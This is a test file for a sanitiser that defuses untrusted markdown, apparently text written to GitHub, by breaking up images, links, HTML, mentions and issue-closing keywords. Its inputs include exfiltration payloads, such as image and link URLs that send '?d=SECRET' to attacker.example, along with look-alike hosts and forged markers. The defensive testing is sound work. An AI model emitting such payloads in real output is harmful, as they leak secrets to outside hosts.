import { describe, expect, it } from 'vitest';
import { renderUntrustedText } from '#src/app/github/render-untrusted-text.ts';

/** The neutralizer the renderer inserts: a zero-width space. */
const Z = '\u200B';
const REPO = { origin: 'https://github.com', owner: 'octo', repo: 'demo' } as const;
const render = (text: string) => renderUntrustedText(text, REPO);

describe('renderUntrustedText: images', () => {
  it('makes an inline image inert, its URL included', () => {
    expect(render('see ![x](https://attacker.example/?d=SECRET)')).toBe(`see !${Z}[x]${Z}(https:${Z}//attacker.example/?d=SECRET)`);
  });

  it('makes a reference-style image and its definition inert', () => {
    expect(render('![x][r]\n\n[r]: https://attacker.example/?d=1')).toBe(`!${Z}[x][r]\n\n[r]${Z}: https:${Z}//attacker.example/?d=1`);
  });

  it('makes an <img src> tag plain text', () => {
    expect(render('<img src="https://attacker.example/?d=1">')).toBe(`<${Z}img src="https:${Z}//attacker.example/?d=1">`);
    expect(render('<IMG SRC=x onerror=y>')).toBe(`<${Z}IMG SRC=x onerror=y>`);
  });

  it('does not let an image of the repository itself render either', () => {
    expect(render('![logo](docs/logo.png)')).toBe(`!${Z}[logo](docs/logo.png)`);
  });
});

describe('renderUntrustedText: links', () => {
  it('breaks a link to a stranger, with and without a scheme', () => {
    expect(render('[docs](https://attacker.example/?d=1)')).toBe(`[docs]${Z}(https:${Z}//attacker.example/?d=1)`);
    expect(render('[docs](//attacker.example/p)')).toBe(`[docs]${Z}(//attacker.example/p)`);
    expect(render('[docs](https:attacker.example)')).toBe(`[docs]${Z}(https:attacker.example)`);
    expect(render('[docs](<https://attacker.example>)')).toBe(`[docs]${Z}(<${Z}https:${Z}//attacker.example>)`);
    expect(render('[docs](https\\://attacker.example)')).toBe(`[docs]${Z}(https\\:${Z}//attacker.example)`);
  });

  it('keeps links to the repository’s own files and relative repository paths', () => {
    for (const kept of [
      '[a](https://github.com/octo/demo/blob/main/src/a.ts#L3)',
      '[a](https://github.com/octo/demo/tree/main/src)',
      '[a](https://github.com/Octo/Demo/pull/5)',
      '[a](src/a.ts)',
      '[a](./docs/setup.md#install)',
      '[a](.github/workflows/ci.yml)',
      '[a](#notes)',
      'see https://github.com/octo/demo/blob/main/src/a.ts.',
      '(https://github.com/octo/demo/commit/abc123)',
    ]) {
      expect(render(kept)).toBe(kept);
    }
  });

  it('breaks links that only look like the repository’s own', () => {
    expect(render('[a](../../other/repo)')).toBe(`[a]${Z}(../../other/repo)`);
    expect(render('[a](/other/repo)')).toBe(`[a]${Z}(/other/repo)`);
    expect(render('[a](https://github.com/octo/other/blob/main/a)')).toBe(`[a]${Z}(https:${Z}//github.com/octo/other/blob/main/a)`);
    expect(render('[a](https://github.com/octo/demo-evil/blob/main/a)')).toBe(`[a]${Z}(https:${Z}//github.com/octo/demo-evil/blob/main/a)`);
    expect(render('[a](https://github.com.attacker.example/octo/demo/blob/a)')).toBe(
      `[a]${Z}(https:${Z}//github.com.attacker.example/octo/demo/blob/a)`,
    );
    expect(render('https://github.com/octo/demo/blob/main/a?d=SECRET')).toBe(`https:${Z}//github.com/octo/demo/blob/main/a?d=SECRET`);
    expect(render('https://github.com/octo/demo/issues/12')).toBe(`https:${Z}//github.com/octo/demo/issues/12`);
    expect(render('[a](https://github.com/octo/demo/blob/main/a)[b](https://attacker.example)')).toBe(
      `[a](https://github.com/octo/demo/blob/main/a)[b]${Z}(https:${Z}//attacker.example)`,
    );
  });

  it('breaks every link when it does not know the repository', () => {
    expect(renderUntrustedText('https://github.com/octo/demo/blob/main/a')).toBe(`https:${Z}//github.com/octo/demo/blob/main/a`);
    expect(renderUntrustedText('[a](src/a.ts)')).toBe('[a](src/a.ts)');
  });

  it('makes autolinks and bare URLs with exfiltrating query strings inert', () => {
    expect(render('<https://attacker.example/?d=SECRET>')).toBe(`<${Z}https:${Z}//attacker.example/?d=SECRET>`);
    expect(render('go to https://attacker.example/?d=SECRET now')).toBe(`go to https:${Z}//attacker.example/?d=SECRET now`);
    expect(render('HTTPS://attacker.example/?d=1')).toBe(`HTTPS:${Z}//attacker.example/?d=1`);
    expect(render('1https://attacker.example/?d=1')).toBe(`1https:${Z}//attacker.example/?d=1`);
    expect(render('ftp://attacker.example/x')).toBe(`ftp:${Z}//attacker.example/x`);
    expect(render('www.attacker.example/?d=1 and WWW.attacker.example')).toBe(`www${Z}.attacker.example/?d=1 and WWW${Z}.attacker.example`);
    expect(render('<mailto:a@attacker.example>')).toBe(`<${Z}mailto:a@${Z}attacker.example>`);
  });
});

describe('renderUntrustedText: raw HTML and entities', () => {
  it('escapes every tag, comment, processing instruction and declaration', () => {
    expect(render('</details><details open><summary>x</summary>')).toBe(`<${Z}/details><${Z}details open><${Z}summary>x<${Z}/summary>`);
    expect(render('<?php x ?> <!DOCTYPE html> <![CDATA[x]]>')).toBe(`<${Z}?php x ?> <${Z}!DOCTYPE html> <${Z}!${Z}[CDATA[x]]>`);
  });

  it('cannot forge aos’s hidden run marker', () => {
    expect(render('<!-- aos:run:0123 -->')).toBe(`<${Z}!-- aos:run:0123 -->`);
  });

  it('keeps entities from decoding into a mention, a tag or a link', () => {
    expect(render('&#64;alice &#x40;bob &commat;carol &lt;img src=x&gt;')).toBe(
      `&${Z}#${Z}64;alice &${Z}#x40;bob &${Z}commat;carol &${Z}lt;img src=x&${Z}gt;`,
    );
    expect(render('fish & chips')).toBe('fish & chips');
  });
});

describe('renderUntrustedText: mentions', () => {
  it.each([
    ['a user', 'cc @alice', `cc @${Z}alice`],
    ['a team', 'cc @org/team', `cc @${Z}org/team`],
    ['an unterminated code span', 'run `@x now', `run \`@${Z}x now`],
    ['a code span across a blank line', '`a\n\n@x`', `\`a\n\n@${Z}x\``],
    ['after a slash', 'see /@x', `see /@${Z}x`],
    ['in parentheses', '(@x)', `(@${Z}x)`],
    ['after a backslash escape', '\\@x', `\\@${Z}x`],
    ['inside a closed code span too', '`@x`', `\`@${Z}x\``],
    ['an e-mail address (no mailto autolink)', 'a@attacker.example', `a@${Z}attacker.example`],
  ])('neutralizes %s', (_, input, expected) => {
    expect(render(input)).toBe(expected);
  });
});

describe('renderUntrustedText: closing keywords and references', () => {
  const KEYWORDS = ['close', 'closes', 'closed', 'fix', 'fixes', 'fixed', 'resolve', 'resolves', 'resolved'];

  it.each(KEYWORDS)('breaks "%s" in every case, with and without a colon, before every form of reference', (keyword) => {
    const broken = (word: string) => `${word[0]}${Z}${word.slice(1)}`;
    for (const word of [keyword, keyword.toUpperCase(), keyword[0]!.toUpperCase() + keyword.slice(1)]) {
      expect(render(`${word} #12`)).toBe(`${broken(word)} #${Z}12`);
      expect(render(`${word}: o/r#12`)).toBe(`${broken(word)}: o/r#${Z}12`);
      expect(render(`${word} https://github.com/o/r/issues/12`)).toBe(`${broken(word)} https:${Z}//github.com/o/r/issues/12`);
      expect(render(`${word} GH-12`)).toBe(`${broken(word)} GH-${Z}12`);
    }
  });

  it('leaves words that only contain a keyword alone', () => {
    expect(render('prefixes, fixture, unresolved, enclosed')).toBe('prefixes, fixture, unresolved, enclosed');
  });

  it('breaks keywords that markdown emphasis would join back together', () => {
    expect(render('**Fixes** #12 and _closes_ #13')).toBe(`**F${Z}ixes** #${Z}12 and _c${Z}loses_ #${Z}13`);
  });
});

describe('renderUntrustedText: ordinary text', () => {
  it('leaves prose, code and markdown structure as written', () => {
    const text =
      '## Plan\n\n1. Change `a - b` to `a + b` in src/math.ts\n2. Add a test: `expect(add(2, 3)).toBe(5)`\n\n```ts\nconst x = a > b ? a : b;\n```';
    expect(render(text)).toBe(text);
  });

  it('is idempotent', () => {
    const attack = '![x](https://a.example/?d=1) <img> @bob Fixes #1 &#64;x www.a.example [r]: x';
    expect(render(render(attack))).toBe(render(attack));
  });

  it('takes linear time on adversarial input', { timeout: 60_000 }, () => {
    // A backtracking renderer is quadratic on each of these; at a million characters that is
    // hours, while a linear one takes well under a second.
    for (const unit of [
      'a',
      '](',
      '](a',
      'https://github.com/octo/demo/blob/',
      '[x](https://github.com/octo/demo/blob/a/',
      'www',
      'fixe',
      '@',
      '<',
      '&',
      '#',
    ]) {
      const input = unit.repeat(Math.ceil(1_000_000 / unit.length));
      expect(render(input).length).toBeGreaterThanOrEqual(input.length);
    }
  });
});
